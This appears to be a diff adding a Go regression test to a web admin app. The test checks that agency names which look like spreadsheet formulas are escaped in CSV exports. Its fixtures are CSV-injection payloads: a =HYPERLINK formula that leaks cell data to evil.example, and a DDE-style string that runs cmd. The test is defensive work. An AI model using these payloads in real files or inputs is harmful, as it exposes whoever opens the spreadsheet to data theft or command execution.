@@ -3,6 +3,7 @@ package web
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"mime/multipart"
 	"net/http"
 	"net/http/httptest"
@@ -136,5 +137,43 @@ func TestAdminImportAndExport(t *testing.T) {
 	}
 	if rec := a.get("/admin/agencies"); !strings.Contains(rec.Body.String(), `class="depth-2">UBND phường Ninh Kiều`) {
 		t.Errorf("the tree does not indent the ward under the centre")
+	}
+}
+
+// TestAdminCSVsNeverCarryFormulas: an agency named like a formula is
+// written as text in agencies.csv and audit.csv (a spreadsheet would run
+// =HYPERLINK(...) otherwise), and the export still imports back unchanged.
+func TestAdminCSVsNeverCarryFormulas(t *testing.T) {
+	s, a := adminSetup(t)
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
+	if rec := a.post("/admin/agencies", url.Values{"code": {"H17.9"}, "name_vi": {evil}, "name_en": {"@SUM(1+1)*cmd|' /C calc'!A0"},
+		"kind": {"so"}, "parent": {"H17"}}); rec.Code != http.StatusSeeOther {
+		t.Fatalf("create: %d", rec.Code)
+	}
+	for _, path := range []string{"/admin/agencies/export.csv", "/admin/audit.csv"} {
+		rec := a.get(path)
+		rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
+		if rec.Code != http.StatusOK || err != nil || len(rows) < 2 {
+			t.Fatalf("%s: %d %v", path, rec.Code, err)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					t.Errorf("%s: a cell starts a formula: %q", path, cell)
+				}
+			}
+		}
+		if path == "/admin/agencies/export.csv" {
+			if !strings.Contains(rec.Body.String(), `'=HYPERLINK(`) {
+				t.Errorf("the name is not kept as text:\n%s", rec.Body)
+			}
+			if rec := a.upload("/admin/agencies/import", "agencies.csv", rec.Body.String()); rec.Code != http.StatusSeeOther {
+				t.Errorf("re-import of the export: %d", rec.Code)
+			}
+		}
+	}
+	ag, err := s.DB.AgencyByCode(context.Background(), "H17.9")
+	if err != nil || ag.Name["vi"] != evil || ag.Name["en"] != "@SUM(1+1)*cmd|' /C calc'!A0" {
+		t.Errorf("after export and import: %+v %v", ag, err)
 	}
 }
